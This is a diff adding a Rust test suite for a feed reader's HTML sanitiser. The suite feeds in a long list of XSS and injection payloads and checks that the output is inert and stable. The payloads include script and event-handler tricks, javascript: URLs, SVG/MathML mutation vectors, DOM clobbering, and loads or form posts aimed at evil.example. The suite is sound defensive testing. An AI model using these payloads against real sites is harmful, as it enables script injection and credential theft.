@@ -1,0 +1,376 @@
+//! Attacks on the sanitiser, and what must survive it.
+//!
+//! Three judges look at every output: our own structural check on the tree that html5ever builds from it, ammonia (which
+//! must find nothing to change), and the sanitiser itself (which must find nothing either).
+
+use super::*;
+use proptest::prelude::*;
+use std::collections::{HashMap, HashSet};
+use std::sync::OnceLock;
+use std::time::{Duration, Instant};
+
+const BASE: &str = "http://example.org/blog/post";
+
+fn clean_html(html: &str) -> String {
+    sanitize(html, Some(&BASE.parse().unwrap()), &Limits::default())
+}
+
+fn check(html: &str, expected: &str) {
+    assert_eq!(clean_html(html), expected, "{html}");
+}
+
+/// Ammonia, told to allow exactly what we write.
+fn ammonia() -> &'static ammonia::Builder<'static> {
+    static BUILDER: OnceLock<ammonia::Builder<'static>> = OnceLock::new();
+    BUILDER.get_or_init(|| {
+        let own = |element: &policy::Element| match element.name {
+            "a" => vec!["href"],
+            "img" => vec!["src", "srcset"],
+            _ => vec![],
+        };
+        let attributes = policy::ELEMENTS.iter().map(|element| {
+            let names = element.attributes.iter().map(|attribute| attribute.name).chain(own(element));
+            (element.name, names.collect::<HashSet<_>>())
+        });
+        let mut builder = ammonia::Builder::empty();
+        builder
+            .tags(policy::ELEMENTS.iter().map(|element| element.name).collect())
+            .tag_attributes(attributes.collect::<HashMap<_, _>>())
+            .generic_attributes(["dir", "lang"].into())
+            .url_schemes(["http", "https", "mailto"].into())
+            .url_relative(ammonia::UrlRelative::Deny)
+            .link_rel(Some(REL));
+        builder
+    })
+}
+
+/// Panics if a parsed output holds anything that may act or reach out in a way it must not.
+fn assert_inert(html: &str) {
+    let document = dom_query::Document::fragment(html);
+    for node in document.root().descendants_it().filter(|node| node.is_element()) {
+        let name = node.node_name().unwrap().to_string();
+        assert!(policy::allowed(&name).is_some_and(|element| element.name == name) || name == "html", "<{name}> in {html}");
+        for attribute in node.attrs() {
+            let (key, value) = (attribute.name.local.to_string(), attribute.value.to_string());
+            assert!(!key.starts_with("on"), "{key} in {html}");
+            let is_forbidden = ["style", "class", "id", "name", "srcdoc", "ping", "target", "download", "action"].contains(&key.as_str());
+            assert!(!is_forbidden, "{key} in {html}");
+            if ["href", "src", "cite", "poster"].contains(&key.as_str()) {
+                let scheme = Url::parse(&value).unwrap().scheme().to_owned();
+                assert!(["http", "https", "mailto"].contains(&scheme.as_str()), "{value} in {html}");
+            }
+        }
+    }
+}
+
+/// All that must hold for the output of any input.
+fn assert_safe(html: &str) -> String {
+    let clean = clean_html(html);
+    assert!(verify::is_clean(&clean), "not our grammar: {clean}\nfrom {html}");
+    assert_inert(&clean);
+    assert_eq!(clean_html(&clean), clean, "not a fixpoint, from {html}");
+    assert_eq!(ammonia().clean(&clean).to_string(), clean, "ammonia reads it otherwise, from {html}");
+    clean
+}
+
+/// Ways to run script, to reach out, to break out or to impersonate, by the idea behind them.
+pub(super) const VECTORS: &[&str] = &[
+    // Script elements, plain and broken apart.
+    "<script>alert(1)</script>",
+    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<script <b>>alert(1)</script>",
+    "<svg><script>alert(1)</script></svg>",
+    "<template><script>alert(1)</script></template>",
+    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<?xml version='1.0'?><script>alert(1)</script>",
+    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+    "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">",
+    "<title><p title=\"</title><img src=x onerror=alert(1)>\">",
+    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
+    "<style><p title=\"</style><img src=x onerror=alert(1)>\">",
+    "<noembed><p title=\"</noembed><img src=x onerror=alert(1)>\">",
+    "<noframes><p title=\"</noframes><img src=x onerror=alert(1)>\">",
+    "<plaintext><img src=x onerror=alert(1)>",
+    "<!-- --!><img src=x onerror=alert(1)> -->",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "</p><!--<p title=\"--><img src=x onerror=alert(1)>\">",
+    // Event handlers, however they are spelt.
+    "<img src=x onerror=alert(1)>",
+    "<img src='x' OnErRoR='alert(1)'>",
+    "<img/src=x/onerror=alert(1)>",
+    "<img src=x onerror\n=\nalert(1)>",
+    "<img \"\"\"><script>alert(1)</script>\">",
+    "<img src=x alt=\"`onerror=alert(1)//`\">",
+    "<p title=x&#12;onmouseover=alert(1)>form feed</p>",
+    "<p title=x\u{c}onmouseover=alert(1)>form feed</p>",
+    "<svg onload=alert(1)>",
+    "<body onload=alert(1)>",
+    "<details open ontoggle=alert(1)>x</details>",
+    "<video><source onerror=alert(1)></video>",
+    "<video poster=javascript:alert(1) src=x onerror=alert(1)></video>",
+    "<audio src=x onerror=alert(1) autoplay></audio>",
+    "<input autofocus onfocus=alert(1)>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    "<custom-element onclick=alert(1) is=x>x</custom-element>",
+    "<xss style=animation-name:x onanimationstart=alert(1)></xss>",
+    "<isindex type=image src=1 onerror=alert(1)>",
+    "<image src=x onerror=alert(1)>",
+    // Addresses that are programs.
+    "<a href=\"javascript:alert(1)\">x</a>",
+    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
+    "<a href=\" &#14; javascript:alert(1)\">x</a>",
+    "<a href=\"java&#9;script:alert(1)\">x</a>",
+    "<a href=\"java&#10;script&colon;alert(1)\">x</a>",
+    "<a href=\"java&NewLine;script:alert(1)\">x</a>",
+    "<a href=\"&#106;&#97;vascript:alert(1)\">x</a>",
+    "<a href=\"&#0000106avascript:alert(1)\">x</a>",
+    "<a href=\"\u{1}javascript:alert(1)\">x</a>",
+    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
+    "<a href=\"vbscript:msgbox(1)\">x</a>",
+    "<a href=\"blob:http://x/y\">x</a>",
+    "<a href=\"view-source:http://x/\">x</a>",
+    "<a href=\"javascript://example.org/%0Aalert(1)\">x</a>",
+    "<a href=\"feed:javascript:alert(1)\">x</a>",
+    "<blockquote cite=\"javascript:alert(1)\">x</blockquote>",
+    "<q cite=javascript:alert(1)>x</q>",
+    "<table background=\"javascript:alert(1)\"><tr><td>x</table>",
+    "<img src=\"http:a<script>alert(1)</script>\" srcset=\"http:a<script>alert(1)</script> 1x\">",
+    "<img srcset=\"javascript:alert(1) 1x, http://evil.example/x 2x\">",
+    "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
+    "<img data-src=\"javascript:alert(1)\">",
+    // Foreign content, where trees change under re-parsing.
+    "<svg><a><set attributeName=href to=javascript:alert(1)></set><text y=30>x</text></a></svg>",
+    "<svg><animate xlink:href=#a attributeName=href values=javascript:alert(1) /><a id=a><text>x</text></a></svg>",
+    "<svg><use href=\"data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x\"></use></svg>",
+    "<svg><foreignObject><iframe srcdoc=\"<script>alert(1)</script>\"></iframe></foreignObject></svg>",
+    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
+    "<svg><title><style><!--</style><img title=\"--><img src=x onerror=alert(1)>\">",
+    "<math><annotation-xml encoding=\"text/html\"><iframe/src=javascript:alert(1)></annotation-xml></math>",
+    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
+    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
+    "<math href=\"javascript:alert(1)\">x</math>",
+    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
+    // Frames and plug-ins.
+    "<iframe src=\"javascript:alert(1)\"></iframe>",
+    "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>",
+    "<iframe src=\"javascript://www.youtube.com/%0Aalert(1)\"></iframe>",
+    "<iframe src=\"https://www.youtube.com.evil.example/embed/x\"></iframe>",
+    "<iframe src=\"https://www.youtube.com@evil.example/\"></iframe>",
+    "<iframe src=\"data:text/html,<script>alert(1)</script>\"></iframe>",
+    "<object data=\"javascript:alert(1)\"></object>",
+    "<object data=\"data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+\"></object>",
+    "<embed src=\"javascript:alert(1)\">",
+    "<applet code=x></applet>",
+    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
+    // The page around us.
+    "<base href=\"http://evil.example/\">",
+    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
+    "<link rel=stylesheet href=\"http://evil.example/x.css\">",
+    "<style>@import 'http://evil.example/x.css';body{display:none}</style>",
+    "<div style=\"position:fixed;top:0;left:0;width:100vw;height:100vh\">overlay</div>",
+    "<div style=\"background:url(javascript:alert(1))\">x</div>",
+    "<p style=\"background-image:url(http://evil.example/leak)\">x</p>",
+    "<form action=\"http://evil.example/\"><input name=password type=password><button>Log in</button></form>",
+    "<button formaction=\"javascript:alert(1)\">x</button>",
+    "<input type=image src=x onerror=alert(1)>",
+    "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
+    "<img src=x id=csrf name=body>",
+    "<div id=app class='modal show' name=createElement>clobbering</div>",
+    "<a id=config><a id=config name=token href=cid:x>clobbering</a>",
+    "<a href=\"http://a/\" onclick=alert(1) ping=\"http://evil.example/\" target=_blank download>x</a>",
+    "</div></article></main></body></html><h1>escaped the container</h1>",
+    "{{constructor.constructor('alert(1)')()}} ${7*7} <%= 7*7 %> #{7*7}",
+    // Text that only looks like markup.
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
+    "&#60script&#62alert(1)&#60/script&#62",
+    // Addresses of our own server.
+    "<a href=\"//evil.example/phish\" target=_blank>x</a>",
+    "<a href=\"/api/feeds/1?_method=delete\">x</a>",
+    "<a href=\"?action=logout\">x</a>",
+    "<img src=\"/api/feeds/refresh\">",
+];
+
+/// Elements that change how parsers read what is inside or after them.
+const WRAPPERS: &[&str] = &[
+    "svg", "math", "table", "tr", "td", "caption", "select", "option", "template", "noscript", "p", "a", "b", "li", "dd", "h1", "pre",
+    "title", "textarea", "style", "xmp", "ruby", "rt", "audio", "video", "picture", "figure", "details", "form", "button", "object",
+    "mtext", "annotation-xml", "foreignObject", "desc", "colgroup", "tbody", "nobr", "font", "center", "div", "ul", "dl", "blockquote",
+];
+
+#[test]
+fn no_vector_survives_alone_or_wrapped() {
+    for vector in VECTORS {
+        assert_safe(vector);
+        for wrapper in WRAPPERS {
+            assert_safe(&format!("<{wrapper}>{vector}</{wrapper}>after"));
+            assert_safe(&format!("<{wrapper}>{vector}"));
+        }
+    }
+}
+
+#[test]
+fn what_people_write_survives() {
+    check(
+        "<a href=\"https://ok.example/\">link</a> <b>bold</b> <img src=\"https://ok.example/i.png\" alt=\"ok\"> <pre><code>&lt;script&gt;</code></pre>",
+        "<a href=\"https://ok.example/\" rel=\"noopener noreferrer nofollow\">link</a> <b>bold</b> \
+         <img src=\"https://ok.example/i.png\" alt=\"ok\" loading=\"lazy\"> <pre><code>&lt;script&gt;</code></pre>",
+    );
+    check("<p>one<p>two<ul><li>a<li>b</ul>", "<p>one</p><p>two</p><ul><li>a</li><li>b</li></ul>");
+    check("<table><tr><td>1<td>2<tr><th colspan=2>3</table>", "<table><tbody><tr><td>1</td><td>2</td></tr><tr><th colspan=\"2\">3</th></tr></tbody></table>");
+    check("<figure><img src=a.png width=640 height=480px><figcaption>c</figcaption></figure>", "<figure><img src=\"http://example.org/blog/a.png\" width=\"640\" height=\"480\" loading=\"lazy\"><figcaption>c</figcaption></figure>");
+    check("<blockquote cite=/src>q</blockquote><time datetime=2026-11-15>t</time>", "<blockquote cite=\"http://example.org/src\">q</blockquote><time datetime=\"2026-11-15\">t</time>");
+    check("x<sup><a href='#fn1' id=r1>1</a></sup>", "x<sup><a href=\"http://example.org/blog/post#fn1\" rel=\"noopener noreferrer nofollow\">1</a></sup>");
+    check("<video controls autoplay><source src=v.mp4 type=video/mp4></video>", "<video controls=\"\" preload=\"none\"><source src=\"http://example.org/blog/v.mp4\" type=\"video/mp4\"></video>");
+    check("<p dir=RTL lang=he onclick=x>שלום</p>", "<p dir=\"rtl\" lang=\"he\">שלום</p>");
+    check("<center>a</center><tt>b</tt><strike>c</strike><font color=red>d</font>", "<div>a</div><code>b</code><s>c</s>d");
+    check("AT&T &copy 2024 &hellip; 1 < 2&nbsp;km", "AT&amp;T © 2024 … 1 &lt; 2&nbsp;km");
+    check("<math><mi>x</mi><annotation>TeX</annotation></math> and <svg><text>no</text></svg>y", "x and y");
+    check("<pre>\n\n  code\n</pre>", "<pre>  code\n</pre>");
+    check("<![CDATA[<p>wrapped twice</p>]]>", "<p>wrapped twice</p>");
+}
+
+#[test]
+fn misnesting_is_mended() {
+    check("<b>a<i>b</b>c</i>", "<b>a<i>b</i></b>c");
+    check("<b>a<p>b</b>c</p>d", "<b>a<p>bc</p></b>d");
+    check("</div></p>text</b>", "text");
+    check("<a href=http://a/>x<a href=http://b/>y", "<a href=\"http://a/\" rel=\"noopener noreferrer nofollow\">x</a><a href=\"http://b/\" rel=\"noopener noreferrer nofollow\">y</a>");
+    check("<table>loose<tr>row<td>cell</table>", "<table><tbody><tr><td>loose</td></tr><tr><td>row</td><td>cell</td></tr></tbody></table>");
+    check("<td>no table</td>", "no table");
+    check("<h1>a<h2>b</h1>c", "<h1>a</h1><h2>b</h2>c");
+    check("<ruby>漢<rt>kan<rt>x</ruby><rt>y", "<ruby>漢<rt>kan</rt><rt>x</rt></ruby>y");
+}
+
+#[test]
+fn lazy_pictures_become_real_and_counted_ones_go() {
+    let img = |src: &str| format!("<img src=\"http://example.org/{src}\" loading=\"lazy\">");
+    check("<img src='data:image/gif;base64,R0' data-src=/real.jpg>", &img("real.jpg"));
+    check("<img class=lazy data-original=/real.jpg>", &img("real.jpg"));
+    check("<img data-srcset='/s.jpg 320w, /l.jpg 640w'>", "<img src=\"http://example.org/s.jpg\" srcset=\"http://example.org/s.jpg 320w, http://example.org/l.jpg 640w\" loading=\"lazy\">");
+    check("<img data-lazy-src=/a.jpg><noscript><img src=/a.jpg></noscript>", &img("a.jpg"));
+    check("<img src=data:,x><noscript><img src=/a.jpg></noscript>", &img("a.jpg"));
+    check("<picture><source srcset=/p.webp><img src=data:,x></picture>", &img("p.webp"));
+    check("<picture><source srcset=/p.webp><img src=/p.jpg></picture>", &img("p.jpg"));
+    for gone in [
+        "<img src=/pixel.gif width=1 height=1>",
+        "<img src=/x.gif width=0 height=0>",
+        "<img src=/x.gif style='display: none'>",
+        "<img src=/x.gif style='width:1px;height:1px'>",
+        "<img src=http://feeds.feedburner.com/~r/blog/~4/x>",
+        "<img src=https://pixel.wp.com/b.gif?x>",
+        "<link rel=prefetch href=/x>",
+    ] {
+        check(gone, "");
+    }
+    check("<img src=/notdoubleclick.net/x.png>", &img("notdoubleclick.net/x.png"));
+}
+
+#[test]
+fn frames_become_links() {
+    let link = |url: &str, text: &str| format!("<a href=\"{url}\" rel=\"noopener noreferrer nofollow\">{text}</a>");
+    check("<iframe src=https://www.youtube.com/embed/x title='A &lt;film&gt;'></iframe>", &format!("<p>{}</p>", link("https://www.youtube.com/embed/x", "A &lt;film&gt;")));
+    check("<p>see <iframe src=//player.vimeo.com/1></iframe></p>", &format!("<p>see {}</p>", link("http://player.vimeo.com/1", "player.vimeo.com/1")));
+    check("<object data=/f.pdf>fallback</object>", &format!("<p>{}</p>fallback", link("http://example.org/f.pdf", "example.org/f.pdf")));
+    check("<iframe></iframe><iframe src=javascript:x></iframe>", "");
+}
+
+#[test]
+fn without_a_base_nothing_points_at_our_own_server() {
+    let limits = Limits::default();
+    for html in ["<a href=/logout>x</a>", "<a href='?a'>x</a>", "<a href=//evil.example/>x</a>", "<a href='#top'>x</a>"] {
+        assert_eq!(sanitize(html, None, &limits), "x", "{html}");
+    }
+    assert_eq!(sanitize("<img src=/x.png alt=x>", None, &limits), "");
+}
+
+#[test]
+fn output_fits_the_limit_and_stays_whole() {
+    let limits = Limits { content_bytes: 100, ..Limits::default() };
+    for html in ["<p>x".repeat(100), "é&<>\"".repeat(100), "<b>".repeat(100), format!("<div><p>{}", "word ".repeat(100))] {
+        let clean = sanitize(&html, None, &limits);
+        assert!(clean.len() <= 100 && clean.len() > 50, "{clean}");
+        assert_eq!(sanitize(&clean, None, &limits), clean);
+        assert_eq!(ammonia().clean(&clean).to_string(), clean);
+    }
+}
+
+#[test]
+fn articles_are_cleaned_once() {
+    let mut article = article();
+    article.content = Content::Raw { html: "<p onclick=x>y <a href=z>z</a>".into(), base: None };
+    article.link = Some("https://example.org/a/b".into());
+    clean(&mut article, &Limits::default());
+    let expected = "<p>y <a href=\"https://example.org/a/z\" rel=\"noopener noreferrer nofollow\">z</a></p>";
+    assert_eq!(article.content, Content::Clean(expected.into()));
+}
+
+#[test]
+fn input_made_to_hurt_takes_linear_time() {
+    let mib = 1 << 20;
+    for pattern in [
+        "<div>", "<ul><li>", "<b>", "<table><tr><td>", "<a href=http://a/>", "<p><table>", "<svg>", "<select>", "<noscript>", "</p>", "<p a=1 ",
+        "&amp;", "&", "&#", "<", "<!--", "<a href='", "<b><p></b>", "<p><b><div></b>", "<ruby><rt>", "<img src=http://a/ srcset='", "]]>",
+        "<img srcset=", "\u{0}", "<h1><b>", "<dd><dt>", "<i><a href=http://a/><table><td>",
+    ] {
+        let html = pattern.repeat(mib / pattern.len());
+        let started = Instant::now();
+        let clean = clean_html(&html);
+        let took = started.elapsed();
+        assert!(took < Duration::from_secs(3), "{pattern} took {took:?}");
+        assert!(clean.len() <= Limits::default().content_bytes);
+    }
+    let attributes = format!("<p {}>x", "a=1 ".repeat(200_000));
+    assert_eq!(clean_html(&attributes), "<p>x</p>");
+}
+
+/// Pieces of vectors and tags, in any order.
+fn mangled() -> impl Strategy<Value = String> {
+    let tags = proptest::sample::select(WRAPPERS).prop_flat_map(|name| {
+        proptest::sample::select(vec![format!("<{name}>"), format!("</{name}>"), format!("<{name} title=\"x\" href=http://a/ src=b>")])
+    });
+    let more = proptest::sample::select(vec![
+        "text", " ", "\n", "&", "&lt;", "&#13;", "\u{a0}", "<!--", "-->", "\"", "<img src=x>", "<br>", "<hr>", "<th>", "<ol>", "<rp>", "<i>",
+        "</i>", "<source src=x>", "<h2>", "</h2>", "<dt>", "<iframe src=//a/>", "</iframe>", "\r", "\u{0}", "<em>", "</em>", "<summary>",
+    ]);
+    let vector = proptest::sample::select(VECTORS).prop_flat_map(|vector| {
+        (0..=vector.len(), 0..=vector.len()).prop_map(move |(a, b)| {
+            let (a, b) = (vector.floor_char_boundary(a.min(b)), vector.floor_char_boundary(a.max(b)));
+            vector[a..b].to_owned()
+        })
+    });
+    let piece = prop_oneof![4 => tags, 3 => more.prop_map(str::to_owned), 1 => vector];
+    proptest::collection::vec(piece, 0..24).prop_map(|pieces| pieces.concat())
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig { cases: 1500, ..ProptestConfig::default() })]
+
+    #[test]
+    fn any_mixture_comes_out_safe_and_stable(html in mangled()) {
+        assert_safe(&html);
+    }
+}
+
+fn article() -> Article {
+    Article {
+        keys: tidings_model::ArticleKeys { guid: None, guid_path: None, link: None, title: None, content: None },
+        version: tidings_model::Fingerprint(0),
+        guid: None,
+        title: String::new(),
+        link: None,
+        comments: None,
+        n_comments: None,
+        authors: vec![],
+        published: None,
+        updated: None,
+        summary: String::new(),
+        content: Content::Known,
+        language: None,
+        tags: vec![],
+        enclosures: vec![],
+        image: None,
+    }
+}
